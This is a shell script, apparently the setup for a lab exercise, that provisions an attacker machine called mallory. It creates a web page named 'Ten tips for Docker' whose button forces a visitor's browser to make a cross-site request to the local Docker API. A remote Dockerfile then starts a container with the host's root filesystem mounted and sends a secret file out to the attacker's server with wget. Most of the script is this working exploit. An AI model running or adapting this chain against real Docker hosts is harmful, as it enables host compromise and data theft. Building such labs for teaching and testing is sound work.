# mallory's own machine: Docker's client, and no daemon.
useradd --create-home --shell /bin/bash mallory
printf 'mallory ALL=(ALL:ALL) NOPASSWD: ALL\n' > /etc/sudoers.d/mallory
chmod 0440 /etc/sudoers.d/mallory
systemctl disable --now docker.socket docker.service containerd.service
rm --recursive --force /usr/sbin/dockerd /usr/bin/containerd* /usr/sbin/runc /var/lib/docker /var/lib/containerd
ip link delete docker0

# mallory's web site, for people to come by. The button on its page is all it takes: see the lesson.
install --directory --owner mallory --group mallory /home/mallory/www
cat > /home/mallory/www/index.html <<'HTML'
<h1>Ten tips for Docker</h1>
<form method="post" action="http://127.0.0.1:2375/build?remote=http://10.0.0.20:8000/Dockerfile&amp;networkmode=host">
  <input type="submit" value="Read on">
</form>
HTML
cat > /home/mallory/www/Dockerfile <<'DOCKERFILE'
FROM local/busybox
RUN wget -q -O - --header 'Content-Type: application/json' --post-data '{"Image": "local/busybox", "HostConfig": {"Binds": ["/:/host"], "AutoRemove": true}, "Cmd": ["sh", "-c", "wget -q -O - http://10.0.0.20:8000/secret/$(cat /host/root/secret.txt)"]}' 'http://127.0.0.1:2375/containers/create?name=reader' && wget -q -O - --post-data '' http://127.0.0.1:2375/containers/reader/start
DOCKERFILE
cat > /etc/systemd/system/www.service <<'UNIT'
[Service]
User=mallory
ExecStart=/usr/bin/python3 -u -m http.server --directory /home/mallory/www 8000
StandardOutput=append:/home/mallory/www.log
StandardError=append:/home/mallory/www.log
UNIT
install --owner mallory --group mallory --mode 0644 /dev/null /home/mallory/www.log
systemctl start www.service
